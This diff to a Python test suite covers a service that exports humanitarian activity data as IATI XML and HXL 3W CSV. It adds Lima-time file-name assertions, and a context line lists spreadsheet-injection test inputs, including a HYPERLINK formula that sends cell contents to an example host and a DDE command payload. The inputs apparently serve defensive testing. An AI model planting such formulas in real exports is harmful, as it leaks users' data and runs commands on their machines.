@@ -53,6 +53,11 @@ def stamp(moment: datetime) -> str:
     return moment.isoformat().replace("+00:00", "Z")
 
 
+def lima_stamp(moment: datetime) -> str:
+    """The moment as an export's file name gives it: Lima's time with its offset, no colons."""
+    return moment.astimezone(LIMA).strftime("%Y-%m-%dT%H%M%S-0500")
+
+
 def activity(activity_id: str, position: int, hours: float, held_on: str, **counts: int) -> dict[str, Any]:
     rows = [{"nationality": n, "sex": s, "count": c} for (n, s), c in
             {("VE", "F"): counts.get("ve_f", 0), ("PE", "M"): counts.get("pe_m", 0)}.items() if c]
@@ -103,6 +108,9 @@ def test_the_iati_activity_file_is_valid_and_answers_as_of_a_moment(client: Test
     assert actual_total(then.content, DIRECT) == "17"
     assert ET.fromstring(then.content).get("generated-datetime") == stamp(at(100))
     assert client.get("/iati/activity.xml", params={"as_of": stamp(at(100))}).content == then.content  # reproducible
+    # Each cut is a file of its own name, in Lima's time (tester 37c F8: every cut was iati-activity.xml)
+    assert then.headers["content-disposition"] == f'attachment; filename="iati-activity_as_of_{lima_stamp(at(100))}.xml"'
+    assert now.headers["content-disposition"].startswith('attachment; filename="iati-activity_2')
 
 
 def test_the_iati_file_reports_money_granted_in_dollars_once_the_programme_holds_any(client: TestClient) -> None:
@@ -141,6 +149,7 @@ def test_the_hxl_3w_export_lists_each_activity_by_ubigeo_as_of_a_moment(client: 
     ]
     then = client.get("/activities/export.hxl.csv", params={"as_of": stamp(at(100))})
     assert [r.get("#activity+code") for r in hxl.data(io.BytesIO(then.content), hxl.InputOptions(allow_local=True))] == ["act-1"]
+    assert then.headers["content-disposition"] == f'attachment; filename="osv-3w_as_of_{lima_stamp(at(100))}.hxl.csv"'
 
 
 FORMULAS = ('=HYPERLINK("http://example.org/x?"&A1,"Ver informe")', "@SUM(1+9)*cmd|' /C calc'!A0 Olla Común", "+51 Vecinos", "-Junta")
